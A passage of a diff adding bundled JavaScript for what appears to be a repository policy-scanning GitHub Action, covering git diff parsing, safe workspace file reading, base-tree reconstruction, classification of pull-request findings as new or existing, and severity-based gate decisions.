+    const files = parseRaw(raw);
+    const sections = patch.split(/^diff --git /m).slice(1);
+    if (sections.length !== files.length) {
+        // Should not happen; without a reliable pairing the lines are unknown rather than wrong.
+        for (const f of files)
+            if (f.status !== 'deleted')
+                f.linesUnknown = true;
+        return files;
+    }
+    files.forEach((file, i) => {
+        const section = sections[i];
+        if (file.status === 'deleted')
+            return;
+        if (/^Binary files .* differ$/m.test(section)) {
+            file.linesUnknown = true;
+            return;
+        }
+        const ranges = [];
+        for (const line of section.split('\n')) {
+            const m = HUNK.exec(line);
+            if (!m)
+                continue;
+            const start = Number(m[1]);
+            const count = m[2] === undefined ? 1 : Number(m[2]);
+            if (count > 0)
+                ranges.push({ start, end: start + count - 1 });
+        }
+        file.added = mergeRanges(ranges);
+    });
+    return files;
+}
+/** `:mode mode sha sha STATUS\0path\0[path\0]` records, as `git diff --raw -z` writes them. */
+function parseRaw(raw) {
+    const fields = raw.split('\0');
+    const files = [];
+    for (let i = 0; i < fields.length;) {
+        const meta = fields[i++];
+        const m = /^:\d+ \d+ [0-9a-f]+ [0-9a-f]+ ([A-Z])\d*$/.exec(meta);
+        if (!m)
+            continue;
+        const letter = m[1];
+        const first = fields[i++] ?? '';
+        if (letter === 'R' || letter === 'C') {
+            const second = fields[i++] ?? '';
+            files.push({
+                path: second,
+                previousPath: first,
+                status: letter === 'R' ? 'renamed' : 'copied',
+                added: [],
+            });
+            continue;
+        }
+        const status = letter === 'A' ? 'added' : letter === 'D' ? 'deleted' : letter === 'T' ? 'type-changed' : 'modified';
+        files.push({ path: first, status, added: [] });
+    }
+    return files;
+}
+/**
+ * The added lines of a unified patch as the API returns it (with context lines). Lines are counted on
+ * the new side: context and `+` lines advance it, `-` lines and `\ No newline` markers do not.
+ */
+function parsePatch(patch) {
+    const ranges = [];
+    let line = 0;
+    let inHunk = false;
+    for (const text of patch.split('\n')) {
+        const m = HUNK.exec(text);
+        if (m) {
+            line = Number(m[1]);
+            inHunk = true;
+            continue;
+        }
+        if (!inHunk || text === '')
+            continue;
+        const mark = text[0];
+        if (mark === '+') {
+            ranges.push({ start: line, end: line });
+            line += 1;
+        }
+        else if (mark === ' ') {
+            line += 1;
+        }
+    }
+    return mergeRanges(ranges);
+}
+/** Maps an API pull-request file status to ours; `unchanged` files are dropped by the caller. */
+function apiStatus(status) {
+    switch (status) {
+        case 'added':
+            return 'added';
+        case 'removed':
+            return 'deleted';
+        case 'modified':
+        case 'changed':
+            return 'modified';
+        case 'renamed':
+            return 'renamed';
+        case 'copied':
+            return 'copied';
+        default:
+            return undefined;
+    }
+}
+/** Sorted, with overlapping and adjacent ranges joined. */
+function mergeRanges(ranges) {
+    const sorted = [...ranges].sort((a, b) => a.start - b.start);
+    const out = [];
+    for (const r of sorted) {
+        const last = out.at(-1);
+        if (last && r.start <= last.end + 1)
+            last.end = Math.max(last.end, r.end);
+        else
+            out.push({ ...r });
+    }
+    return out;
+}
+/**
+ * Runs `git diff base...head` in `dir` (three dots: against the merge base, as GitHub shows a pull
+ * request) and parses it. Undefined when git fails, a commit is missing (shallow checkout) or the
+ * output exceeds {@link MAX_DIFF_BYTES}.
+ */
+async function gitDiff(dir, base, head) {
+    if (!diff_isCommitId(base) || !diff_isCommitId(head))
+        return undefined;
+    const out = await diff_gitOutput(dir, [
+        'diff',
+        '--raw',
+        '-p',
+        '-z',
+        '--unified=0',
+        '--no-color',
+        '--no-ext-diff',
+        '--no-textconv',
+        '--find-renames',
+        `${base}...${head}`,
+        '--',
+    ]);
+    return out === undefined ? undefined : parseGitDiff(out.toString('utf8'));
+}
+/** A full or abbreviated hexadecimal object id: never an option, a range or a path. */
+function diff_isCommitId(ref) {
+    return /^[0-9a-f]{7,64}$/i.test(ref);
+}
+/**
+ * Runs git read-only with an argument array (no shell) and bounded output; undefined on any failure.
+ * `input` is written to its standard input (for `cat-file --batch`).
+ */
+function diff_gitOutput(cwd, args, options = {}) {
+    const maxBytes = options.maxBytes ?? MAX_DIFF_BYTES;
+    return new Promise((resolve) => {
+        const child = (0,external_node_child_process_namespaceObject.spawn)('git', ['-c', 'core.quotepath=off', ...args], {
+            cwd,
+            stdio: [options.input === undefined ? 'ignore' : 'pipe', 'pipe', 'ignore'],
+            timeout: GIT_TIMEOUT_MS,
+            env: { ...process.env, GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0' },
+        });
+        const chunks = [];
+        let size = 0;
+        let failed = false;
+        child.stdout.on('data', (b) => {
+            size += b.length;
+            if (size > maxBytes) {
+                failed = true;
+                child.kill();
+                return;
+            }
+            chunks.push(b);
+        });
+        child.on('error', () => {
+            failed = true;
+        });
+        child.on('close', (code) => resolve(failed || code !== 0 ? undefined : Buffer.concat(chunks)));
+        if (options.input !== undefined) {
+            child.stdin.on('error', () => {
+                failed = true;
+            });
+            child.stdin.end(options.input);
+        }
+    });
+}
+/**
+ * Answers diff questions in the checked root's terms: `prefix` is the root's path from the top of the
+ * repository (`services/api/`, or empty), which the diff's paths carry and findings' paths do not.
+ */
+class DiffIndex {
+    diff;
+    byPath = new Map();
+    constructor(diff, prefix = '') {
+        this.diff = diff;
+        for (const f of diff.files) {
+            if (f.status === 'deleted' || !f.path.startsWith(prefix))
+                continue;
+            this.byPath.set(f.path.slice(prefix.length), f);
+        }
+    }
+    /** The changed file at a root-relative path (deleted files are not there). */
+    file(path) {
+        return this.byPath.get(path);
+    }
+    /** Whether the pull request touches this root-relative path. */
+    isChanged(path) {
+        return this.byPath.has(path);
+    }
+    /** The first added line within [start, end], or undefined: where an inline comment may go. */
+    firstAddedLine(path, start, end = start) {
+        const file = this.byPath.get(path);
+        if (!file)
+            return undefined;
+        for (const r of file.added) {
+            if (r.end < start)
+                continue;
+            if (r.start > end)
+                break;
+            return Math.max(r.start, start);
+        }
+        return undefined;
+    }
+    /** Whether any line of [start, end] is an added line. */
+    touches(path, start, end = start) {
+        return this.firstAddedLine(path, start, end) !== undefined;
+    }
+}
+
+// EXTERNAL MODULE: ./node_modules/ignore/index.js
+var ignore = __nccwpck_require__(298);
+;// CONCATENATED MODULE: ./lib/core/workspace/files.js
+
+
+
+
+/** Directories never indexed: VCS metadata only. Everything else follows .gitignore. */
+const ALWAYS_SKIPPED = new Set(['.git']);
+/** Hard stop for non-git walks, so a hostile tree cannot make the index unbounded. */
+const MAX_WALK_ENTRIES = 500_000;
+/**
+ * Lists the files of a tree as sorted POSIX paths relative to `root`: git's index plus untracked,
+ * non-ignored files when `root` is the top of a git work tree, else a walk honouring every
+ * `.gitignore` on the way. Symbolic links are listed but never followed.
+ */
+function listFiles(root) {
+    const fromGit = gitListFiles(root);
+    if (fromGit)
+        return { files: fromGit, source: 'git' };
+    return { files: walk(root), source: 'walk' };
+}
+function gitListFiles(root) {
+    if (!(0,external_node_fs_namespaceObject.existsSync)(external_node_path_namespaceObject.join(root, '.git')))
+        return undefined;
+    try {
+        const out = (0,external_node_child_process_namespaceObject.execFileSync)('git', ['-c', 'core.quotepath=off', 'ls-files', '-z', '--cached', '--others', '--exclude-standard'], { cwd: root, maxBuffer: 1024 * 1024 * 1024, stdio: ['ignore', 'pipe', 'ignore'] });
+        const seen = new Set();
+        for (const name of out.toString('utf8').split('\0')) {
+            if (!name || seen.has(name))
+                continue;
+            // The index can list files deleted from the work tree, and submodules (directories).
+            let stat;
+            try {
+                stat = (0,external_node_fs_namespaceObject.lstatSync)(external_node_path_namespaceObject.join(root, name));
+            }
+            catch {
+                continue;
+            }
+            if (stat.isFile() || stat.isSymbolicLink())
+                seen.add(name);
+        }
+        return [...seen].sort(compareStrings);
+    }
+    catch {
+        return undefined;
+    }
+}
+function walk(root) {
+    const files = [];
+    let budget = MAX_WALK_ENTRIES;
+    const visit = (dir, rules) => {
+        let entries;
+        try {
+            entries = (0,external_node_fs_namespaceObject.readdirSync)(external_node_path_namespaceObject.join(root, dir), { withFileTypes: true });
+        }
+        catch {
+            return;
+        }
+        const local = readGitignore(root, dir);
+        const active = local ? [...rules, { base: dir, ig: local }] : rules;
+        for (const entry of entries) {
+            if (--budget < 0)
+                return;
+            if (ALWAYS_SKIPPED.has(entry.name))
+                continue;
+            const rel = dir ? `${dir}/${entry.name}` : entry.name;
+            const isDir = entry.isDirectory();
+            if (isIgnored(active, rel, isDir))
+                continue;
+            if (isDir)
+                visit(rel, active);
+            else if (entry.isFile() || entry.isSymbolicLink())
+                files.push(rel);
+        }
+    };
+    visit('', []);
+    return files.sort(compareStrings);
+}
+function readGitignore(root, dir) {
+    const file = external_node_path_namespaceObject.join(root, dir, '.gitignore');
+    try {
+        const stat = (0,external_node_fs_namespaceObject.lstatSync)(file);
+        if (!stat.isFile() || stat.size > 1024 * 1024)
+            return undefined;
+        return ignore().add((0,external_node_fs_namespaceObject.readFileSync)(file, 'utf8'));
+    }
+    catch {
+        return undefined;
+    }
+}
+/** As git does: the deepest .gitignore with an opinion (a match or a negation) decides. */
+function isIgnored(rules, rel, isDir) {
+    for (let i = rules.length - 1; i >= 0; i--) {
+        const { base, ig } = rules[i];
+        const sub = base ? rel.slice(base.length + 1) : rel;
+        const verdict = ig.test(isDir ? `${sub}/` : sub);
+        if (verdict.ignored)
+            return true;
+        if (verdict.unignored)
+            return false;
+    }
+    return false;
+}
+/** Code-unit order, so the index is identical across locales and machines. */
+function compareStrings(a, b) {
+    return a < b ? -1 : a > b ? 1 : 0;
+}
+
+;// CONCATENATED MODULE: ./lib/core/workspace/workspace.js
+
+
+
+
+
+
+/** Default cap on bytes read from one file; larger files are listed but not scanned. */
+const DEFAULT_MAX_FILE_BYTES = 1024 * 1024;
+/** Git's heuristic: a NUL byte in the first 8,000 bytes means binary. */
+const BINARY_SNIFF_BYTES = 8000;
+const GLOB_OPTIONS = { dot: true };
+/**
+ * The tree under evaluation. One file index per run; each file read at most once and shared by every
+ * rule; parsers run once per file. Never follows a symbolic link and never reads outside `root`.
+ */
+class Workspace {
+    root;
+    files;
+    /**
+     * Every file of the index, before `include`/`exclude`: what exists in the repository (evidence
+     * for a declared control may sit in a path no rule scans).
+     */
+    indexed;
+    indexSource;
+    maxFileBytes;
+    fileSet;
+    contents = new Map();
+    yamlCache = new Map();
+    problems = new Map();
+    matchers = new Map();
+    memos = new Map();
+    /** The root with symbolic links resolved, computed once (every read checks against it). */
+    realRoot;
+    constructor(root, options = {}) {
+        this.root = external_node_path_namespaceObject.resolve(root);
+        this.maxFileBytes = options.maxFileBytes ?? DEFAULT_MAX_FILE_BYTES;
+        let files;
+        if (options.files) {
+            files = [...options.files];
+            this.indexSource = 'given';
+        }
+        else {
+            const listed = listFiles(this.root);
+            files = listed.files;
+            this.indexSource = listed.source;
+        }
+        const include = options.include?.length ? picomatch(options.include, GLOB_OPTIONS) : undefined;
+        const exclude = options.exclude?.length ? picomatch(options.exclude, GLOB_OPTIONS) : undefined;
+        this.indexed = files;
+        this.files = files.filter((f) => (!include || include(f)) && !exclude?.(f));
+        this.fileSet = new Set(this.files);
+    }
+    has(file) {
+        return this.fileSet.has(file);
+    }
+    /** Files matching any of the globs (picomatch syntax, dotfiles included), in index order. */
+    glob(patterns) {
+        const list = typeof patterns === 'string' ? [patterns] : patterns;
+        if (list.length === 0)
+            return [];
+        const match = this.matcher(list);
+        return this.files.filter((f) => match(f));
+    }
+    /** A compiled, cached matcher for a set of globs. */
+    matcher(patterns) {
+        const key = patterns.join('\u0000');
+        let m = this.matchers.get(key);
+        if (!m) {
+            m = picomatch([...patterns], GLOB_OPTIONS);
+            this.matchers.set(key, m);
+        }
+        return m;
+    }
+    /** Reads a file once (cached): text, or the reason it is not scanned as text. */
+    read(file) {
+        let content = this.contents.get(file);
+        if (!content) {
+            content = this.load(file);
+            this.contents.set(file, content);
+        }
+        return content;
+    }
+    /** The file's text, or undefined when it is binary, too large, a symlink or unreadable. */
+    text(file) {
+        const c = this.read(file);
+        return c.kind === 'text' ? c.text : undefined;
+    }
+    /** Parsed YAML (cached). A parse failure is also recorded as an input problem of the file. */
+    yaml(file) {
+        const cached = this.yamlCache.get(file);
+        if (cached)
+            return cached;
+        const text = this.text(file);
+        if (text === undefined)
+            return undefined;
+        const result = parseYaml(text);
+        this.yamlCache.set(file, result);
+        if (!result.ok)
+            this.reportProblem({ path: file, ...result.error });
+        return result;
+    }
+    /**
+     * Caches the result of a parser (or any per-file computation) so that every rule shares it:
+     * `workspace.memo('dockerfile', file, () => parseDockerfile(text))`.
+     */
+    memo(kind, file, compute) {
+        const key = `${kind}\u0000${file}`;
+        if (this.memos.has(key))
+            return this.memos.get(key);
+        const value = compute();
+        this.memos.set(key, value);
+        return value;
+    }
+    /** Records a located problem with an input file; the first problem per file wins. */
+    reportProblem(problem) {
+        if (!this.problems.has(problem.path))
+            this.problems.set(problem.path, problem);
+    }
+    /** Problems recorded so far, sorted by path. */
+    inputProblems() {
+        return [...this.problems.values()].sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
+    }
+    load(file) {
+        if (!this.fileSet.has(file) || !isSafeRelative(file)) {
+            return { kind: 'unreadable', reason: 'not in the workspace index' };
+        }
+        const abs = external_node_path_namespaceObject.join(this.root, file);
+        let fd;
+        try {
+            const st = (0,external_node_fs_namespaceObject.lstatSync)(abs);
+            if (st.isSymbolicLink())
+                return { kind: 'symlink' };
+            if (!st.isFile())
+                return { kind: 'unreadable', reason: 'not a regular file' };
+            // A parent directory may itself be a symlink pointing out of the tree.
+            // The native realpath is one call; the JavaScript one lstats every path component.
+            const real = external_node_fs_namespaceObject.realpathSync.native(abs);
+            this.realRoot ??= external_node_fs_namespaceObject.realpathSync.native(this.root);
+            const realRoot = this.realRoot;
+            if (real !== realRoot && !real.startsWith(realRoot + external_node_path_namespaceObject.sep)) {
+                return { kind: 'symlink' };
+            }
+            fd = (0,external_node_fs_namespaceObject.openSync)(abs, 'r');
+            const size = (0,external_node_fs_namespaceObject.fstatSync)(fd).size;
+            const sniff = Buffer.allocUnsafe(Math.min(size, BINARY_SNIFF_BYTES));
+            const sniffed = (0,external_node_fs_namespaceObject.readSync)(fd, sniff, 0, sniff.length, 0);
+            const head = sniff.subarray(0, sniffed);
+            if (head.includes(0))
+                return { kind: 'binary', size, head };
+            if (size > this.maxFileBytes)
+                return { kind: 'too-large', size };
+            // Only the bytes read are used (subarray below), so the buffers need no zero-filling.
+            const buf = Buffer.allocUnsafe(size);
+            // The sniffed head is the start of the file: only the rest needs reading.
+            head.copy(buf);
+            let read = sniffed;
+            while (read < size) {
+                const n = (0,external_node_fs_namespaceObject.readSync)(fd, buf, read, size - read, read);
+                if (n === 0)
+                    break;
+                read += n;
+            }
+            let text = buf.subarray(0, read).toString('utf8');
+            if (text.charCodeAt(0) === 0xfeff)
+                text = text.slice(1);
+            return { kind: 'text', text, lines: new LineIndex(text) };
+        }
+        catch (err) {
+            return { kind: 'unreadable', reason: err.code ?? String(err) };
+        }
+        finally {
+            if (fd !== undefined)
+                (0,external_node_fs_namespaceObject.closeSync)(fd);
+        }
+    }
+}
+/** Rejects absolute paths and any `..` segment. */
+function isSafeRelative(file) {
+    if (external_node_path_namespaceObject.isAbsolute(file) || file.includes('\0'))
+        return false;
+    return !file.split(/[\\/]/).includes('..');
+}
+
+;// CONCATENATED MODULE: ./lib/core/base-tree.js
+/**
+ * The base version of the checked tree, for telling the findings a pull request introduces from the
+ * ones it inherits. No second checkout: the base is the head workspace with the change undone. Files
+ * the change did not touch are the head's own cached reads (same content, same findings, no extra
+ * I/O); files it touched are read from git objects of the baseline commit in one `git cat-file
+ * --batch` process. The cost is proportional to the diff, not to the repository.
+ */
+
+
+
+
+/** Git's heuristic, as the workspace applies it: a NUL byte in the first 8,000 bytes means binary. */
+const base_tree_BINARY_SNIFF_BYTES = 8000;
+/** Most bytes streamed from `cat-file` in one run; files beyond the per-file cap are only sniffed. */
+const MAX_BATCH_BYTES = 1024 * 1024 * 1024;
+/**
+ * Per-file parses that depend on nothing but the file's content, so an untouched file's result from
+ * the head run serves the base run too. Aggregates (keyed by '') and anything reading other files
+ * are deliberately absent.
+ */
+const SHARED_MEMOS = new Set([
+    'workflow',
+    'dockerfile',
+    'terraform',
+    'k8s',
+    'deps.json',
+    'secrets',
+]);
+/**
+ * A {@link Workspace} over the base version: its own file list, its own findings' input problems,
+ * and content that is either a blob of the baseline commit or, for an untouched file, the head
+ * workspace's cached read. Subclassing keeps the workspace's bounds (safe paths, size caps) in one
+ * place and leaves its file-system reads untouched for the head.
+ */
+class BaseWorkspace extends Workspace {
+    head;
+    blobs;
+    constructor(head, files, blobs, options = {}) {
+        super(head.root, { ...options, files, maxFileBytes: head.maxFileBytes });
+        this.head = head;
+        this.blobs = blobs;
+    }
+    read(file) {
+        if (!this.has(file))
+            return super.read(file);
+        return this.blobs.get(file) ?? this.head.read(file);
+    }
+    /** Untouched files share the head's parse; the problem, if any, is recorded here too. */
+    yaml(file) {
+        if (!this.untouched(file))
+            return super.yaml(file);
+        const result = this.head.yaml(file);
+        if (result && !result.ok)
+            this.reportProblem({ path: file, ...result.error });
+        return result;
+    }
+    /** Untouched files share the head's per-file parses (see {@link SHARED_MEMOS}). */
+    memo(kind, file, compute) {
+        if (SHARED_MEMOS.has(kind) && this.untouched(file))
+            return this.head.memo(kind, file, compute);
+        return super.memo(kind, file, compute);
+    }
+    /** Its own problems, plus the head's for untouched files (a shared parse recorded them there). */
+    inputProblems() {
+        const own = super.inputProblems();
+        const seen = new Set(own.map((p) => p.path));
+        const inherited = this.head.inputProblems().filter((p) => !seen.has(p.path) && this.untouched(p.path));
+        return [...own, ...inherited].sort((a, b) => (a.path < b.path ? -1 : a.path > b.path ? 1 : 0));
+    }
+    /** In both trees with the same content: read, parsed and judged once, by the head. */
+    untouched(file) {
+        return file !== '' && this.has(file) && this.head.has(file) && !this.blobs.has(file);
+    }
+}
+/**
+ * Builds the base workspace of `head` against `baseline` (a commit id), or undefined when git cannot
+ * answer (no such commit in a shallow checkout, not a repository, output over its bounds). The diff
+ * is taken against the working tree, so whatever the checkout holds beyond the baseline commit counts
+ * as the change.
+ */
+async function buildBaseWorkspace(head, baseline, options = {}) {
+    if (!diff_isCommitId(baseline))
+        return undefined;
+    const out = await diff_gitOutput(head.root, [
+        'diff',
+        '--raw',
+        '-z',
+        '--no-abbrev',
+        '--find-renames',
+        '--relative',
+        '--no-ext-diff',
+        baseline,
+        '--',
+    ]);
+    if (out === undefined)
+        return undefined;
+    const { removed, entries } = parseRawAgainstWorktree(out.toString('utf8'));
+    const files = new Set(head.indexed);
+    for (const p of removed)
+        files.delete(p);
+    const wanted = entries.filter((e) => e.mode !== '160000'); // submodules are not files
+    for (const e of wanted)
+        files.add(e.path);
+    const blobs = await readBlobs(head.root, wanted, head.maxFileBytes);
+    if (!blobs)
+        return undefined;
+    const sorted = [...files].sort((a, b) => (a < b ? -1 : a > b ? 1 : 0));
+    return new BaseWorkspace(head, sorted, blobs, options);
+}
+/**
+ * From `git diff --raw -z <commit>` (commit on the left, working tree on the right): the paths that
+ * exist only in the working tree, and the base's version of every path whose content differs.
+ */
+function parseRawAgainstWorktree(raw) {
+    const fields = raw.split('\0');
+    const removed = [];
+    const entries = [];
+    for (let i = 0; i < fields.length;) {
+        const m = /^:(\d+) (\d+) ([0-9a-f]+) [0-9a-f]+ ([A-Z])\d*$/.exec(fields[i++]);
+        if (!m)
+            continue;
+        const [, mode, , oid, letter] = m;
+        const first = fields[i++] ?? '';
+        if (letter === 'R' || letter === 'C') {
+            const second = fields[i++] ?? '';
+            removed.push(second);
+            // A copy leaves its source in place, unchanged unless listed again on its own.
+            if (letter === 'R')
+                entries.push({ path: first, mode, oid });
+            continue;
+        }
+        if (letter === 'A')
+            removed.push(first);
+        else
+            entries.push({ path: first, mode, oid });
+    }
+    return { removed, entries };
+}
+/**
+ * Reads the blobs in one `git cat-file --batch` process, streaming: a blob above `maxBytes` keeps only
+ * its first bytes (enough to tell binary from too large), so memory stays bounded whatever the diff.
+ */
+function readBlobs(cwd, entries, maxBytes) {
+    const result = new Map();
+    const queue = [];
+    for (const e of entries) {
+        if (e.mode === '120000')
+            result.set(e.path, { kind: 'symlink' });
+        else
+            queue.push(e);
+    }
+    if (queue.length === 0)
+        return Promise.resolve(result);
+    return new Promise((resolve) => {
+        const child = (0,external_node_child_process_namespaceObject.spawn)('git', ['cat-file', '--batch'], {
+            cwd,
+            stdio: ['pipe', 'pipe', 'ignore'],
+            env: { ...process.env, GIT_TERMINAL_PROMPT: '0', GIT_OPTIONAL_LOCKS: '0' },
+        });
+        let buffer = Buffer.alloc(0);
+        let index = 0;
+        let streamed = 0;
+        let failed = false;
+        // The blob being read: its declared size, what is kept of it, how much remains.
+        let current;
+        const keepLimit = Math.max(maxBytes, base_tree_BINARY_SNIFF_BYTES);
+        const finish = (entry, content) => {
+            result.set(entry.path, content);
+            index += 1;
+        };
+        child.stdout.on('data', (chunk) => {
+            streamed += chunk.length;
+            if (streamed > MAX_BATCH_BYTES) {
+                failed = true;
+                child.kill();
+                return;
+            }
+            buffer = buffer.length ? Buffer.concat([buffer, chunk]) : chunk;
+            while (buffer.length > 0 && index < queue.length) {
+                if (!current) {
+                    const nl = buffer.indexOf(10);
+                    if (nl < 0)
+                        return;
+                    const header = buffer.subarray(0, nl).toString('utf8');
+                    buffer = buffer.subarray(nl + 1);
+                    const m = /^[0-9a-f]+ (\w+) (\d+)$/.exec(header);
+                    if (!m) {
+                        finish(queue[index], { kind: 'unreadable', reason: 'missing from the base commit' });
+                        continue;
+                    }
+                    current = { size: Number(m[2]), kept: [], keptBytes: 0, remaining: Number(m[2]) + 1 };
+                }
+                const take = Math.min(current.remaining, buffer.length);
+                const part = buffer.subarray(0, take);
+                buffer = buffer.subarray(take);
+                current.remaining -= take;
+                const room = keepLimit - current.keptBytes;
+                if (room > 0) {
+                    const kept = part.subarray(0, room);
+                    current.kept.push(kept);
+                    current.keptBytes += kept.length;
+                }
+                if (current.remaining > 0)
+                    return;
+                const bytes = Buffer.concat(current.kept).subarray(0, current.size);
+                finish(queue[index], blobContent(bytes, current.size, maxBytes));
+                current = undefined;
+            }
+        });
+        child.on('error', () => {
+            failed = true;
+        });
+        child.on('close', (code) => resolve(failed || code !== 0 || index < queue.length ? undefined : result));
+        child.stdin.on('error', () => {
+            failed = true;
+        });
+        child.stdin.end(queue.map((e) => `${e.oid}\n`).join(''));
+    });
+}
+/** The same classification the workspace applies to a file on disk. */
+function blobContent(bytes, size, maxBytes) {
+    const head = bytes.subarray(0, Math.min(bytes.length, base_tree_BINARY_SNIFF_BYTES));
+    if (head.includes(0))
+        return { kind: 'binary', size, head: Buffer.from(head) };
+    if (size > maxBytes)
+        return { kind: 'too-large', size };
+    let text = bytes.toString('utf8');
+    if (text.charCodeAt(0) === 0xfeff)
+        text = text.slice(1);
+    return { kind: 'text', text, lines: new LineIndex(text) };
+}
+/**
+ * The commit to compare the working tree with. A checkout of the pull request's head compares with
+ * the merge base (what the branch started from); GitHub's default checkout, the test merge commit,
+ * compares with its first parent (the base branch it was merged into), so that changes on the base
+ * branch since the branch point never count as the pull request's. Undefined when the history is
+ * not in the checkout (fetch-depth 1).
+ */
+async function resolveBaseline(dir, base, head) {
+    if (!isCommitId(base) || !isCommitId(head))
+        return undefined;
+    const rev = async (args) => (await gitOutput(dir, args))?.toString('utf8').trim() || undefined;
+    const checkedOut = await rev(['rev-parse', '--verify', '--quiet', 'HEAD^{commit}']);
+    if (!checkedOut)
+        return undefined;
+    if (checkedOut !== head) {
+        const parents = (await rev(['rev-list', '--parents', '-n', '1', checkedOut]))?.split(' ').slice(1) ?? [];
+        if (parents.length === 2 && parents[1] === head) {
+            const first = await rev(['rev-parse', '--verify', '--quiet', `${parents[0]}^{commit}`]);
+            if (first)
+                return first;
+        }
+    }
+    return rev(['merge-base', base, head]);
+}
+
+;// CONCATENATED MODULE: ./lib/core/pr.js
+/**
+ * New versus existing findings on a pull request. A finding is new when the base version of the tree
+ * does not have it: fingerprints are content-based, so a finding keeps its identity when lines move.
+ * When the base version cannot be read (a shallow checkout), the diff decides instead: a finding on a
+ * line the pull request adds is new, one elsewhere is existing, and one the diff cannot place (about
+ * the repository as a whole, or in a binary file) counts as new, so missing history never lets a
+ * change through unchecked.
+ */
+
+/**
+ * Marks each finding new or existing by fingerprint. `exempt` rule ids (repository settings read
+ * through the API) are never new: no change to the tree can introduce them.
+ */
+function markNewByBase(findings, baseFingerprints, exempt = new Set()) {
+    const summary = { new: 0, existing: 0, unplaced: 0 };
+    for (const f of findings) {
+        f.isNew = !exempt.has(f.ruleId) && !baseFingerprints.has(f.fingerprint);
+        summary[f.isNew ? 'new' : 'existing'] += 1;
+    }
+    return summary;
+}
+/**
+ * Marks each finding from the diff alone: new when it touches an added line, sits in an added file or
+ * in a changed file whose lines are unknown, or cannot be placed in a file at all.
+ */
+function markNewByDiff(findings, diff, exempt = new Set()) {
+    const summary = { new: 0, existing: 0, unplaced: 0 };
+    for (const f of findings) {
+        if (exempt.has(f.ruleId)) {
+            f.isNew = false;
+        }
+        else if (!f.location) {
+            f.isNew = true;
+            summary.unplaced += 1;
+        }
+        else {
+            const { path, startLine, endLine } = f.location;
+            const file = diff.file(path);
+            f.isNew =
+                file !== undefined &&
+                    (file.status === 'added' || file.linesUnknown === true || diff.touches(path, startLine, endLine));
+        }
+        summary[f.isNew ? 'new' : 'existing'] += 1;
+    }
+    return summary;
+}
+/** Whether a finding counts against a gate of this scope (unjudged findings always count). */
+function inGateScope(f, scope) {
+    return scope === 'all' || f.isNew !== false;
+}
+/**
+ * Fingerprints of a finding list, as the base run produced them. Kept as a set: the comparison only
+ * asks whether the base had an occurrence with the same identity.
+ */
+function fingerprintSet(findings) {
+    return new Set(findings.map((f) => f.fingerprint));
+}
+/**
+ * Marks every finding new or existing: by evaluating the base tree when the baseline commit is in
+ * the checkout, else from the diff, else not at all (a push, or no way to know).
+ */
+async function judgeChange(findings, options, run) {
+    const empty = { new: 0, existing: 0, unplaced: 0 };
+    let judged = { method: 'none' };
+    let counts = empty;
+    const base = options.baseline
+        ? await buildBaseWorkspace(run.head, options.baseline, { include: run.include, exclude: run.exclude })
+        : undefined;
+    if (base && options.baseline) {
+        const baseFindings = await run.evaluateBase(base);
+        counts = markNewByBase(findings, fingerprintSet(baseFindings), run.exempt);
+        judged = { method: 'base-tree', commit: options.baseline };
+    }
+    else if (options.diff) {
+        counts = markNewByDiff(findings, options.diff, run.exempt);
+        judged = {
+            method: 'diff',
+            reason: options.baseline
+                ? `the base tree of ${options.baseline.slice(0, 12)} could not be read`
+                : 'the base commit is not in the checkout',
+        };
+    }
+    if (judged.method !== 'none') {
+        for (const f of findings) {
+            if (!run.alwaysNew.has(f.ruleId) || f.isNew)
+                continue;
+            f.isNew = true;
+            counts = { ...counts, new: counts.new + 1, existing: counts.existing - 1 };
+        }
+    }
+    return { scope: options.scope, judged, counts };
+}
+
+;// CONCATENATED MODULE: ./lib/core/gate.js
+
+
+
+/** Numeric rank of a severity: info 0 .. critical 4. */
+function severityRank(s) {
+    return SEVERITIES.indexOf(s);
+}
+/** Whether a severity is at or above the threshold (`never` blocks nothing). */
+function meetsThreshold(severity, failOn) {
+    return failOn !== 'never' && severityRank(severity) >= severityRank(failOn);
+}
+/** Gap reasons listed one per control up to this many; the rest are counted. */
+const MAX_GAP_REASONS = 10;
+/**
+ * Decides the gate and marks each finding that counts against it as blocking. A finding blocks when
+ * it is open and at or above `failOn`, when its rule always blocks, or (under `fail-on-gap`) when it
+ * causes a gap in a declared control. Excepted and ignored findings never block. The reasons say
+ * which findings and which controls failed the gate, in words.
+ */
+function applyGate(findings, failOn, options = {}) {
+    const failOnGap = options.failOnGap ?? true;
+    const scope = options.scope ?? 'all';
+    const always = options.alwaysBlocking ?? new Set();
+    const policyRules = options.policyRules ?? new Map();
+    const reasons = [];
+    const counts = new Map();
+    const unconditional = [];
+    for (const f of findings) {
+        f.blocking = false;
+        if (f.status !== 'open')
+            continue;
+        if (always.has(f.ruleId)) {
+            f.blocking = true;
+            unconditional.push(f);
+        }
+        else if (meetsThreshold(f.severity, failOn) && inGateScope(f, scope)) {
+            f.blocking = true;
+            counts.set(f.severity, (counts.get(f.severity) ?? 0) + 1);
+        }
+    }
+    if (unconditional.length > 0) {
+        const files = [...new Set(unconditional.map((f) => f.location?.path).filter(Boolean))].join(', ');
+        reasons.push(`${unconditional.length} problem${unconditional.length === 1 ? '' : 's'} with the policy files${files ? ` (${files})` : ''}, which always fail the gate`);
+    }
+    const thresholdCount = [...counts.values()].reduce((a, b) => a + b, 0);
+    if (thresholdCount > 0) {
+        const detail = [...SEVERITIES]
+            .reverse()
+            .filter((s) => counts.has(s))
+            .map((s) => `${counts.get(s)} ${s}`)
+            .join(', ');
+        const fresh = scope === 'new' ? 'new ' : '';
+        reasons.push(`${thresholdCount} ${fresh}open finding${thresholdCount === 1 ? '' : 's'} at or above "${failOn}" (${detail})`);
+    }
+    const gaps = (options.controls ?? []).filter((c) => c.verdict === 'gap');
+    if (failOnGap && gaps.length > 0) {
+        for (const c of gaps)
+            for (const f of gapCauses(c.id, findings, policyRules))
+                f.blocking = true;
+        for (const c of gaps.slice(0, MAX_GAP_REASONS)) {
+            reasons.push(`control ${c.id} (${c.title}) has a gap: ${c.reasons.join('; ')}`);
+        }
+        if (gaps.length > MAX_GAP_REASONS) {
+            reasons.push(`${gaps.length - MAX_GAP_REASONS} more controls have a gap`);
+        }
+    }
+    return { result: reasons.length > 0 ? 'fail' : 'pass', failOn, failOnGap, reasons };
+}
+
+;// CONCATENATED MODULE: ./lib/core/policy/changes.js
+
+
+
+const FAIL_ON_RANK = { info: 0, low: 1, medium: 2, high: 3, critical: 4, never: 5 };
